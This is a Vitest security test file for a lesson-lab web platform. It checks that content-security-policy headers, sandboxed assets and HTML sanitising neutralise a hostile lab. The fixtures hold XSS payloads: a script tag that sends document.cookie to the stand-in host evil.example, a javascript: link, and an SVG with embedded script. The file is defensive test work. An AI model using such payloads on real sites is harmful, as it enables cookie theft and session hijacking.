import { afterAll, beforeAll, expect, test } from 'vitest'
import { startWorld, type World } from '../support/world.ts'
import { TINY } from '../faults/support/serve.ts'

/** Threat 8: a lab that brings script. What rendering lets pass is a table in server/lessons/render; here is what the answers forbid. */
const SCRIPT = '<script>fetch("https://evil.example/" + document.cookie)</script>'
const lab = {
  ...TINY,
  'lab.yaml': TINY['lab.yaml'].replace('title: Tiny', `title: '${SCRIPT}'`).replace('A namespace of your own', SCRIPT),
  'one.md': `# ${SCRIPT}\n\n${SCRIPT}\n\n[x](javascript:alert(1)) ![x](https://evil.example/p.png)\n\n{{task mine}}\n`,
  'assets/map.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
  'assets/page.html': SCRIPT,
}
let world: World
let session: string
beforeAll(async () => {
  world = await startWorld({ labs: { hostile: lab } })
  session = (await world.page.startSession('hostile')).id
})
afterAll(() => world[Symbol.asyncDispose]())

const directives = (headers: Headers) =>
  Object.fromEntries(
    (headers.get('content-security-policy') ?? '')
      .split('; ')
      .map((one) => [one.split(' ')[0], one.split(' ').slice(1)]),
  )

test('the page may load nothing of others, run nothing inline, be framed by nobody', async () => {
  for (const url of ['/', `/sessions/${session}`, '/api/labs', '/nothing', `/api/sessions/${session}`]) {
    const { headers } = await world.page.answer('GET', url)
    expect(directives(headers)).toEqual({
      'default-src': ["'self'"],
      'object-src': ["'none'"],
      'base-uri': ["'none'"],
      'form-action': ["'self'"],
      'frame-ancestors': ["'none'"],
    })
    expect(Object.fromEntries(headers)).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'no-referrer',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
    })
  }
})

test('the page itself has nothing inline that the policy would have to allow', async () => {
  const { text } = await world.page.answer('GET', '/')
  expect(text).not.toMatch(/<script(?![^>]*\ssrc=)|<style|\son\w+=|\sstyle=|https?:\/\//)
})

test.each(['map.svg', 'page.html'])('the asset %s, opened by itself, may do nothing at all', async (name) => {
  const { status, headers } = await world.page.answer('GET', `/api/sessions/${session}/assets/${name}`)
  expect(status).toBe(200)
  expect(directives(headers)).toMatchObject({ 'default-src': ["'none'"], sandbox: [] })
  expect(directives(headers)).not.toHaveProperty('script-src')
})

test('the lesson comes as safe HTML, and names as JSON text', async () => {
  const { text, headers } = await world.page.answer('GET', `/api/sessions/${session}/steps/one`)
  expect(headers.get('content-type')).toMatch(/^application\/json/)
  const { html } = JSON.parse(text) as { html: string }
  expect(html).not.toMatch(/<script|href="javascript|evil\.example\/p\.png"|<img/)
  expect((await world.page.answer('GET', '/api/labs')).headers.get('content-type')).toMatch(/^application\/json/)
})
